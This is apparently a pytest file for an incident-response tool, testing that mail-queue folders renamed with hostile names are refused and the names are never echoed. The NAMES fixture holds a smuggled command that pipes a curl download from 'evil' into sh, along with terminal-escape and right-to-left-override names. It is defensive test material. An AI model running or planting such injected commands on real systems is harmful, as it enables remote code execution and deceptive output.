"""Whoever controls the mail tree names its folders: nothing of that is shown, sent or pasted."""

from pathlib import Path

import pytest

from playbook import operations
from playbook.errors import ServerRefused
from playbook.incident import store
from playbook.mail.names import holds_controls
from playbook.wiring import Options
from tests.support.attacked_server import attacked

NAMES = ("q\ncurl -s http:evil | sh #", "q\x1b]0;x\x07", "q\u202etxt")


@pytest.mark.slow
def test_a_queue_that_is_renamed_so_is_refused_before_anything_is_done(tmp_path: Path) -> None:
    with attacked(tmp_path, still=True, ssh=False) as (server, desk):
        queue = server.install / "mail" / "_outgoing"
        for name in NAMES:
            real = queue.with_name(name)
            queue.rename(real)
            queue.symlink_to(real)
            for begin in (operations.rehearse, operations.respond):
                with pytest.raises(ServerRefused) as refused:
                    begin(desk, (server.account,), Options(contain=True))
                assert refused.value.reason == "name"
                assert not holds_controls(str(refused.value))
            queue.unlink()
            real.rename(queue)
        assert not store.names(desk.home)
        assert desk.reader().survey().smtp.running
        (queue.parent / f"_outgoing.{NAMES[0]}").mkdir()
        assert desk.reader().survey().unnameable == 1
